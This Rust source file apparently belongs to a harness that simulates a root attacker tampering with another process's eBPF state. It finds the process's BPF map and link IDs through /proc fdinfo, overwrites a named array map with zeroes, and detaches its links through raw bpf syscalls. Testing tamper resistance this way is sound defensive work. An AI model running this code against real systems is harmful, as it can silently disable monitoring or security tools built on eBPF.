//! What an attacker with root does to what another program has in the kernel.

use std::path::Path;

use crate::bpf::{call, put};

const MAP_UPDATE_ELEM: i64 = 2;
const MAP_GET_FD_BY_ID: i64 = 14;
const OBJ_GET_INFO_BY_FD: i64 = 15;
const LINK_GET_FD_BY_ID: i64 = 30;
const LINK_DETACH: i64 = 34;

/// The numbers that the descriptors of a process say of themselves under this name.
fn numbers(pid: &str, name: &str) -> Vec<u32> {
    let dir = Path::new("/proc").join(pid).join("fdinfo");
    let entries = std::fs::read_dir(dir).into_iter().flatten().flatten();
    let mut numbers: Vec<u32> = entries
        .filter_map(|entry| std::fs::read_to_string(entry.path()).ok())
        .filter_map(|text| {
            let line = text.lines().find_map(|line| {
                line.strip_prefix(name)?
                    .strip_prefix(':')
                    .map(str::to_owned)
            })?;
            line.trim().parse().ok()
        })
        .collect();
    numbers.sort_unstable();
    numbers.dedup();
    numbers
}

fn open(command: i64, number: u32) -> i64 {
    let mut attributes = [0; 16];
    put(&mut attributes, 0, &number.to_ne_bytes());
    call(command, &attributes)
}

/// Opens each map of a process by its number, and fills the array of this name with zeroes. Gives how many entries that were.
pub(crate) fn wreck_map(pid: &str, name: &str) -> i64 {
    let mut written = 0;
    for number in numbers(pid, "map_id") {
        let map = open(MAP_GET_FD_BY_ID, number);
        if map < 0 {
            return map;
        }
        // type, id, key_size, value_size, max_entries, map_flags, name
        let info = [0_u8; 80];
        let mut attributes = [0; 16];
        put(&mut attributes, 0, &(map as u32).to_ne_bytes());
        put(&mut attributes, 4, &80_u32.to_ne_bytes());
        put(&mut attributes, 8, &(info.as_ptr() as u64).to_ne_bytes());
        if call(OBJ_GET_INFO_BY_FD, &attributes) < 0 {
            return -1;
        }
        // The kernel has written there.
        let info = std::hint::black_box(info);
        let word =
            |at: usize| u32::from_ne_bytes([info[at], info[at + 1], info[at + 2], info[at + 3]]);
        let its_name: Vec<u8> = info[24..40]
            .iter()
            .copied()
            .take_while(|byte| *byte != 0)
            .collect();
        if its_name != name.as_bytes() {
            continue;
        }
        let zeroes = vec![0_u8; word(12) as usize];
        for key in 0..word(16) {
            let mut attributes = [0; 32];
            put(&mut attributes, 0, &(map as u32).to_ne_bytes());
            put(&mut attributes, 8, &(&raw const key as u64).to_ne_bytes());
            put(&mut attributes, 16, &(zeroes.as_ptr() as u64).to_ne_bytes());
            written += i64::from(call(MAP_UPDATE_ELEM, &attributes) == 0);
        }
    }
    written
}

/// Detaches each link of a process that can be detached. Gives how many that were.
pub(crate) fn detach_links(pid: &str) -> i64 {
    let links = numbers(pid, "link_id").into_iter();
    let detached = links.filter(|number| {
        let link = open(LINK_GET_FD_BY_ID, *number);
        link >= 0 && open(LINK_DETACH, link as u32) == 0
    });
    detached.count() as i64
}
